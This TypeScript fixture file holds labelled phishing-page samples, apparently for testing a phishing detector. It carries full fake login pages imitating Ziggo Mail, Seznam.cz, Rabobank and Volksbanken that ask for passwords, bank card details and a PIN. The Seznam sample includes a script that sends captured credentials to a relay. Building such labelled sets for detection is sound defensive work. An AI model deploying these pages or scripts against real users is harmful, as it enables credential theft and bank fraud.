import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';

// Webmail and bank kits on free hosting accounts (alpenweb.site / gratis-hosting.eu subdomains).
const freeBanner = (host: string) => `<div style="position:fixed;bottom:0;right:0;background:#333;color:#ccc;font:11px Arial;padding:3px 8px;z-index:9">Kostenlos gehostet von ${host}</div>`;

export const entries: Entry[] = [
{
  id: 'zl-phish-free-ziggo-webmail',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://ziggo-mail-verificatie.alpenweb.site/login.html',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>Ziggo Mail - Inloggen</title>
<style>body{margin:0;font-family:Arial;background:#f5f5f5}.h{background:#f48c00;color:#fff;padding:16px 30px;font-size:26px;font-weight:800}.p{max-width:400px;margin:40px auto;background:#fff;padding:28px;border-radius:6px}
input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #aaa;border-radius:4px}button{width:100%;padding:12px;background:#f48c00;border:0;color:#fff;font-weight:700;border-radius:4px}</style></head>
<body><div class="h">ziggo</div><div class="p"><h2>Inloggen op Ziggo Mail</h2><p style="font-size:14px">Wij voeren een upgrade uit van alle mailboxen. Log vóór 2 december in om uw e-mails, contacten en agenda te behouden.</p>
<form action="https://ziggo-mail-verificatie.alpenweb.site/x.php" method="post"><input name="email" placeholder="E-mailadres"><input name="wachtwoord" type="password" placeholder="Wachtwoord"><button>Inloggen</button></form>
<p style="font-size:12px;color:#777">Wachtwoord vergeten? · Klantenservice</p></div>${freeBanner('alpenweb.site')}</body></html>`,
},
{
  id: 'zl-phish-free-seznam-email',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://seznam-overeni-uctu.alpenweb.site/prihlaseni.html',
  body: `<!DOCTYPE html><html lang="cs"><head><meta charset="utf-8"><title>Přihlášení – Seznam.cz</title>
<style>body{margin:0;font-family:Arial;background:#fff}.c{max-width:360px;margin:70px auto;text-align:center}.lg{color:#cc0000;font:700 34px Arial}
input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:6px;font-size:15px}button{width:100%;padding:12px;margin-top:12px;background:#cc0000;color:#fff;border:0;border-radius:6px;font-size:16px}</style></head>
<body><div class="c"><div class="lg">Seznam.cz</div><h3>Přihlaste se ke svému účtu</h3><p style="font-size:13px;color:#666">Vaše schránka byla dočasně omezena kvůli podezřelé aktivitě. Pro obnovení se přihlaste.</p>
<form id="s"><input name="username" placeholder="Uživatelské jméno" required><input name="password" type="password" placeholder="Heslo" required><button>Přihlásit se</button></form>
<p style="font-size:12px;color:#999">Zapomenuté heslo · Registrace · Nápověda</p></div>
<script src="tg.js"></script>${freeBanner('alpenweb.site')}</body></html>`,
  routes: {
    'seznam-overeni-uctu.alpenweb.site/tg.js': jsRoute(`(function(){var f=document.getElementById('s');f.onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(f));
var t='7391:AAF'+'x9k_fake';var msg='SEZNAM\\n'+d.username+'\\n'+d.password+'\\n'+navigator.userAgent;
fetch('/relay.php?bot='+t,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'-100482',text:msg})}).finally(function(){location.href='https://email.seznam.cz/'})}})();`),
    'seznam-overeni-uctu.alpenweb.site/relay.php': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"ok":true}' },
  },
},
{
  id: 'zl-phish-free-rabobank-scanner',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://rabo-scanner-vervangen.gratis-hosting.eu/aanvraag/',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>Rabobank - Nieuwe Rabo Scanner aanvragen</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"Myriad Pro",Arial;background:#f3f3f3}.h{background:#fff;padding:14px 28px;border-bottom:1px solid #ddd;color:#000066;font:700 24px Arial}.h i{color:#fd6400;font-style:normal}
.s{max-width:520px;margin:30px auto;background:#fff;padding:28px}.steps{display:flex;gap:6px;font-size:12px;margin-bottom:14px}.steps b{flex:1;padding:6px;background:#000066;color:#fff}.steps span{flex:1;padding:6px;background:#ddd}
input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #999}button{background:#fd6400;color:#fff;border:0;padding:12px 24px;font-size:15px}</style></head>
<body><div class="h"><i>&#9650;</i> Rabobank</div><div class="s"><div class="steps"><b>1. Gegevens</b><span>2. Controle</span><span>3. Bevestigen</span></div>
<h2>Vervang uw Rabo Scanner</h2><p>Vanaf 1 januari 2027 werkt de oude Rabo Scanner niet meer. Vraag nu kosteloos een nieuwe aan.</p>
<form id="r"><label>Rekeningnummer</label><input name="rek" placeholder="NL.. RABO ...."><label>Pasnummer</label><input name="pas" maxlength="4"><label>Vervaldatum pas</label><input name="vd" placeholder="MM-JJ">
<label>Naam</label><input name="naam"><label>Geboortedatum</label><input name="gd"><label>Mobiel nummer</label><input name="mob"><button>Volgende</button></form></div>
<script>document.getElementById('r').onsubmit=function(e){e.preventDefault();fetch('opslaan.php',{method:'POST',body:new FormData(this)});this.outerHTML='<p>Een medewerker neemt telefonisch contact met u op om de aanvraag te bevestigen. Houd uw Rabo Scanner en bankpas bij de hand.</p><p><b>Wacht op de verbinding...</b></p>'}</script>
${freeBanner('gratis-hosting.eu')}</body></html>`,
  routes: { 'rabo-scanner-vervangen.gratis-hosting.eu/aanvraag/opslaan.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' } },
},
{
  id: 'zl-phish-free-volksbank-securego',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://vr-securego-plus.gratis-hosting.eu/banking-private/entry',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Volksbanken Raiffeisenbanken - Online-Banking</title>
<style>body{margin:0;font-family:Arial;background:#fff}.h{background:#0066b3;color:#fff;padding:16px 30px;font-size:20px;font-weight:700}.h b{color:#ff6600}
.f{max-width:420px;margin:40px auto;border:1px solid #ccc;padding:28px}input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #888}button{background:#ff6600;color:#fff;border:0;padding:11px 28px;font-size:15px}</style></head>
<body><div class="h"><b>VR</b> Volksbanken Raiffeisenbanken</div><div class="f"><h2>Anmeldung Online-Banking</h2>
<p style="font-size:13px">Wichtig: Umstellung auf <b>SecureGo plus</b> erforderlich. Ohne Aktualisierung sind ab dem 01.12. keine Überweisungen mehr möglich.</p>
<form method="post" action="entry/next"><label>VR-NetKey oder Alias</label><input name="netkey"><label>PIN</label><input type="password" name="pin"><label>BLZ Ihrer Bank</label><input name="blz"><button>Anmelden</button></form></div></body></html>`,
},
];
